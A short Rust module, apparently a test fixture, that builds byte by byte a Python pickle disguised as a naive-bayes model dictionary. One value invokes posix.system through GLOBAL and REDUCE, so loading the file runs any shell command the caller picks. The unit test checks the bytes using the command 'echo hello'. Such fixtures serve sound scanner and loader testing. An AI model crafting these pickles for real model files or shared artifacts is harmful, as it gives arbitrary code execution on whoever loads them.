//! A pickle that runs a command when it is loaded, put together opcode by opcode.
//!
//! Nothing here loads or runs a pickle; the command is the caller's choice.

/// Returns a protocol 2 pickle of a dictionary, one value of which is what `posix.system` returns
/// for a command: the usual shape of an attack, with the rest of the model around it.
pub(super) fn that_runs(shell_command: &str) -> Vec<u8> {
    let mut pickle = vec![0x80, 2]; // PROTO 2
    pickle.push(b'}'); // EMPTY_DICT
    pickle.push(b'('); // MARK
    unicode(&mut pickle, "model_type");
    unicode(&mut pickle, "naive-bayes");
    unicode(&mut pickle, "prior");
    pickle.push(b'G'); // BINFLOAT
    pickle.extend(0.5_f64.to_be_bytes());
    unicode(&mut pickle, "vocabulary");
    pickle.extend(b"cposix\nsystem\n"); // GLOBAL
    unicode(&mut pickle, shell_command);
    pickle.push(0x85); // TUPLE1
    pickle.push(b'R'); // REDUCE: the call
    pickle.push(b'u'); // SETITEMS
    pickle.push(b'.'); // STOP
    pickle
}

/// Appends BINUNICODE.
fn unicode(pickle: &mut Vec<u8>, text: &str) {
    let length = u32::try_from(text.len()).expect("the texts of an example are short");
    pickle.push(b'X');
    pickle.extend(length.to_le_bytes());
    pickle.extend(text.as_bytes());
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_call_is_in_the_bytes() {
        let pickle = that_runs("echo hello");
        assert_eq!((pickle.first(), pickle.last()), (Some(&0x80), Some(&b'.')));
        let call = b"cposix\nsystem\nX\x0a\0\0\0echo hello\x85R";
        assert!(pickle.windows(call.len()).any(|window| window == call));
    }
}
